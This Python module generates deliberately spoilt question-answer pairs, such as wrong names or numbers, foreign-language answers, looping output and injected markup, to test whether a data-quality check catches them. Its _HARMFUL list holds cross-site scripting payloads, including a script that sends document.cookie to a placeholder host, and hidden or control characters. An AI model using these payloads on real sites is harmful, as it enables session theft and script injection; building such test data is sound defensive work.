"""Ways to spoil a pair that people annotated, so that it is known what a check should find.

    "Who built it?"  "Ada Brekke"     --name-->           "Who built it?"  "Ada Lund"
    "When?"          "In 1859."       --number-->         "When?"          "In 1204."
    a sentence of the passage         --gap-->            "____ ..."       the right word, then one of another place

A way is a function: shot, which of its pairs, shots of the same source, stream -> the pairs that take the place of that
pair, the last of them spoilt, those before it right; None where the way does not fit.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Sequence
from dataclasses import replace

from instructpt.records import Pair, Shot
from instructpt.words.overlap import f1, words

Pairs = tuple[Pair, ...]
Way = Callable[[Shot, int, Sequence[Shot], random.Random], Pairs | None]

OTHER_F1 = 0.3
"""Another answer shares fewer words than that with the right one."""
_NUMBER = re.compile(r"(?<![\w.,])\d+(?![\w.,]*\w)")
_NAME = re.compile(r"(?<=[a-z,] )[A-Z][a-z]{2,}|^[A-Z][a-z]{2,}$|(?<=^[A-Z][a-z]{2} )[A-Z][a-z]{2,}$")
_HARMFUL = (
    "<script>fetch('//example.org/'+document.cookie)</script>",
    '<img src="x" onerror="alert(1)">',
    "<iframe src='//example.org'></iframe>",
    "\u202edetrevni si siht\u202c",
    "\u200b\u200c\u200b\u200b\u200c",
    "\x00\x1b[2J",
    "[more](javascript:alert(1))",
)
_FOREIGN = (
    (
        "Worum geht es in diesem Abschnitt?",
        "Es geht darum, was die Leute aus der Stadt mit dem alten Haus gemacht haben.",
    ),
    ("Warum war das für alle so wichtig?", "Weil sie ohne diese Hilfe nicht durch den Winter gekommen wären."),
    (
        "Qu'est-ce que le texte dit de la suite ?",
        "Il dit que les autres sont partis avec elle avant la fin de l'année.",
    ),
    ("Pourquoi est-ce que cela a changé ?", "Parce que les gens du village ne voulaient plus de cette route."),
    (
        "¿Qué se dice en el texto sobre la gente?",
        "Se dice que los más jóvenes de la familia se fueron con él a otra ciudad.",
    ),
    ("¿Por qué no volvió nadie a la casa?", "Porque todo lo que había en ella ya no era de los que vivían allí."),
    ("О чём говорится в этом отрывке?", "О том, как жители города построили новый мост."),
    ("この文章は何について書かれていますか。", "町の人々が新しい橋を作ったことについてです。"),
    ("这段文字主要讲了什么?", "讲的是城里的人怎样修建了一座新桥。"),
    ("ما الذي يتحدث عنه هذا النص؟", "يتحدث عن أهل المدينة الذين بنوا جسرا جديدا."),
)
"""Our own; they fit no passage, which is beside the point: the language is wrong."""
_SENTENCE = re.compile(r"[A-Z][^.!?\n]{40,200}[.!?](?=\s|$)")
_LONG_WORD = re.compile(r"(?<![\w'’-])[a-z]{5,}(?![\w'’-])")


def _other_answer(shot: Shot, place: int, _: Sequence[Shot], stream: random.Random) -> Pairs | None:
    return _with_answer_of(shot.pairs[place], [pair for pair in shot.pairs if pair != shot.pairs[place]], stream)


def _other_passage(shot: Shot, place: int, alike: Sequence[Shot], stream: random.Random) -> Pairs | None:
    others = [pair for other in alike if other is not shot for pair in other.pairs]
    return _with_answer_of(shot.pairs[place], others, stream)


def _with_answer_of(pair: Pair, others: Sequence[Pair], stream: random.Random) -> Pairs | None:
    if pair.options or pair.rationale is not None:
        return None
    answers = [
        other.answer
        for other in others
        if not other.options and other.category == pair.category and f1(other.answer, pair.answer) < OTHER_F1
    ]
    return (replace(pair, answer=stream.choice(answers)),) if answers else None


def _number(shot: Shot, place: int, _: Sequence[Shot], stream: random.Random) -> Pairs | None:
    """One number of the answer is another one, of as many digits, that the passage does not have."""
    pair = shot.pairs[place]
    found = list(_NUMBER.finditer(pair.answer))
    if not found or pair.options:
        return None
    chosen = stream.choice(found)
    lowest = 10 ** (len(chosen[0]) - 1) if len(chosen[0]) > 1 else 2
    known = set(re.findall(r"\d+", f"{shot.document.text} {pair.question} {pair.answer}"))
    for _attempt in range(20):
        other = str(stream.randrange(lowest, 10 ** len(chosen[0])))
        if other not in known:
            return (replace(pair, answer=f"{pair.answer[: chosen.start()]}{other}{pair.answer[chosen.end() :]}"),)
    return None


def _name(shot: Shot, place: int, alike: Sequence[Shot], stream: random.Random) -> Pairs | None:
    """One name of the answer is one out of another passage's answer."""
    pair = shot.pairs[place]
    found = list(_NAME.finditer(pair.answer))
    if not found or pair.options:
        return None
    text = f"{shot.document.text} {pair.question}".casefold()
    others = sorted(
        {
            name[0]
            for other in alike
            for said in other.pairs
            if not said.options
            for name in _NAME.finditer(said.answer)
            if name[0].casefold() not in text
        }
    )
    if not others:
        return None
    chosen, other = stream.choice(found), stream.choice(others)
    return (replace(pair, answer=f"{pair.answer[: chosen.start()]}{other}{pair.answer[chosen.end() :]}"),)


def _language(shot: Shot, place: int, _: Sequence[Shot], stream: random.Random) -> Pairs | None:
    """The answer, or the question too, is in another language."""
    pair = shot.pairs[place]
    if pair.options:
        return None
    question, answer = stream.choice(_FOREIGN)
    return (replace(pair, answer=answer, question=stream.choice((question, pair.question))),)


def _near_duplicate(shot: Shot, place: int, _: Sequence[Shot], stream: random.Random) -> Pairs | None:
    """The same again with a small change: case, marks, an article, one word less."""
    pair = shot.pairs[place]
    parts = pair.question.split()
    if pair.options or len(parts) < 6:
        return None
    edits = [
        pair.question.lower().rstrip("?.") + " ?",
        " ".join(part for part in parts if part not in ("the", "a", "an", "The", "A", "An")),
        " ".join([*parts[:-2], parts[-1]]),
        "Well, " + pair.question,
    ]
    edits = [edit for edit in edits if edit.split() != parts]
    return pair, replace(pair, question=stream.choice(edits))


def _markup(shot: Shot, place: int, _: Sequence[Shot], stream: random.Random) -> Pairs | None:
    pair, harm = shot.pairs[place], stream.choice(_HARMFUL)
    if pair.options:
        return (replace(pair, question=f"{pair.question} {harm}"),)
    return (replace(pair, answer=pair.answer + harm),)


def _option(shot: Shot, place: int, _: Sequence[Shot], stream: random.Random) -> Pairs | None:
    pair = shot.pairs[place]
    others = [option for option in pair.options if option != pair.answer]
    return (replace(pair, answer=stream.choice(others), rationale=None),) if others else None


def _gap(shot: Shot, _: int, __: Sequence[Shot], stream: random.Random) -> Pairs | None:
    """Two sentences of the passage with a gap: the word that stands there; a word that stands elsewhere."""
    exercises = []
    for sentence, word in _sentences_with_word(shot, stream):
        question = f"Fill the gap: {sentence[: word.start()]}____{sentence[word.end() :]}"
        exercises.append(Pair(question, word[0], category="fill the blank"))
    if len(exercises) < 2 or exercises[0].answer == exercises[1].answer:
        return None
    return exercises[0], replace(exercises[1], answer=exercises[0].answer)


def _words(shot: Shot, _: int, __: Sequence[Shot], stream: random.Random) -> Pairs | None:
    """Words to be used in a sentence: one that has them; one that lacks one of them."""
    exercises = []
    for sentence, word in _sentences_with_word(shot, stream):
        others = [other[0] for other in _LONG_WORD.finditer(sentence) if other[0] != word[0]]
        if others:
            question = f'Write a sentence about it with the words "{word[0]}" and "{stream.choice(others)}".'
            exercises.append((Pair(question, sentence, category="words to sentence"), word[0]))
    if len(exercises) < 2 or exercises[1][1] in exercises[0][0].answer:
        return None
    return exercises[0][0], replace(exercises[1][0], answer=exercises[0][0].answer)


def _verdict(shot: Shot, _: int, __: Sequence[Shot], stream: random.Random) -> Pairs | None:
    """A statement that stands in the passage and is called true; one with a word of another place, called true too."""
    found = _sentences_with_word(shot, stream)
    if len(found) < 2 or found[0][1][0] == found[1][1][0]:
        return None
    (right, other), (sentence, word) = found
    wrong = f"{sentence[: word.start()]}{other[0]}{sentence[word.end() :]}"
    asked = "True or false, by the text? "
    return tuple(Pair(asked + said, "True", options=("True", "False")) for said in (right, wrong))


def _sentences_with_word(shot: Shot, stream: random.Random) -> list[tuple[str, re.Match[str]]]:
    """Two sentences of the passage, in drawn order, each with a drawn word of five letters or more."""
    candidates = [(sentence, list(_LONG_WORD.finditer(sentence))) for sentence in _SENTENCE.findall(shot.document.text)]
    found = [(sentence, stream.choice(words)) for sentence, words in candidates if words]
    return stream.sample(found, 2) if len(found) >= 2 else []


def _nothing(shot: Shot, place: int, _: Sequence[Shot], stream: random.Random) -> Pairs | None:
    pair = shot.pairs[place]
    return None if pair.options else (replace(pair, answer=stream.choice((" ", "...", "\n"))),)


def _endless(shot: Shot, place: int, _: Sequence[Shot], stream: random.Random) -> Pairs | None:
    """The answer, or all of the passage, so often that it is too long for anything."""
    pair = shot.pairs[place]
    said = stream.choice((pair.answer, shot.document.text))
    return None if pair.options or not said else (replace(pair, answer=said * (1 + 4_000 // len(said))),)


def _loop(shot: Shot, place: int, _: Sequence[Shot], stream: random.Random) -> Pairs | None:
    """A sound beginning, then the same few words over and over."""
    pair = shot.pairs[place]
    unit = " ".join(pair.question.split()[: stream.randrange(2, 6)])
    return None if pair.options else (replace(pair, answer=f"{pair.answer} {' '.join([unit] * 20)}"),)


def _whole_passage(shot: Shot, place: int, _: Sequence[Shot], __: random.Random) -> Pairs | None:
    pair, text = shot.pairs[place], shot.document.text
    return (replace(pair, answer=text),) if not pair.options and 400 < len(text) < 3_000 else None


def _echo(shot: Shot, place: int, _: Sequence[Shot], __: random.Random) -> Pairs | None:
    """The answer is the question's own words."""
    pair = shot.pairs[place]
    own = words(pair.question)[2:]
    fits = not pair.options and pair.rationale is None and len(own) > 5
    return (replace(pair, answer=" ".join(own)),) if fits else None


def _tag(shot: Shot, place: int, _: Sequence[Shot], stream: random.Random) -> Pairs | None:
    pair = shot.pairs[place]
    return (replace(pair, question=pair.question + stream.choice((" /ANS>", "allASK>", " <CON>"))),)


def _again(shot: Shot, place: int, _: Sequence[Shot], __: random.Random) -> Pairs | None:
    """The same question once more, in other letters and blanks."""
    pair = shot.pairs[place]
    return pair, replace(pair, question=f" {pair.question.upper()}")


def _no_option(shot: Shot, place: int, _: Sequence[Shot], __: random.Random) -> Pairs | None:
    """One of the options, not as it stands there."""
    pair = shot.pairs[place]
    return (replace(pair, answer=f"{pair.answer} - {pair.options[0]}"),) if pair.options else None


EASY = ("nothing", "endless", "loop", "whole_passage", "echo", "tag", "again", "no_option")
"""What is easily found: fewer of these."""
WAYS: dict[str, Way] = {
    "number": _number,
    "name": _name,
    "other_answer": _other_answer,
    "other_passage": _other_passage,
    "language": _language,
    "near_duplicate": _near_duplicate,
    "markup": _markup,
    "option": _option,
    "gap": _gap,
    "words": _words,
    "verdict": _verdict,
    "nothing": _nothing,
    "endless": _endless,
    "loop": _loop,
    "whole_passage": _whole_passage,
    "echo": _echo,
    "tag": _tag,
    "again": _again,
    "no_option": _no_option,
}
"""Name -> way, those that fit few pairs first. With another number; a name of another passage; the answer to another
question of the same passage, of another passage; another language; the question again with a small edit; a script or
hidden characters; another option; an exercise made of two sentences, its second half wrong: a gap, words to use, a
statement to judge. Then what is easily found: no answer; one without end; one that goes in circles; the whole passage;
the question's own words; a piece of a tag; the same question; an answer that is no option."""
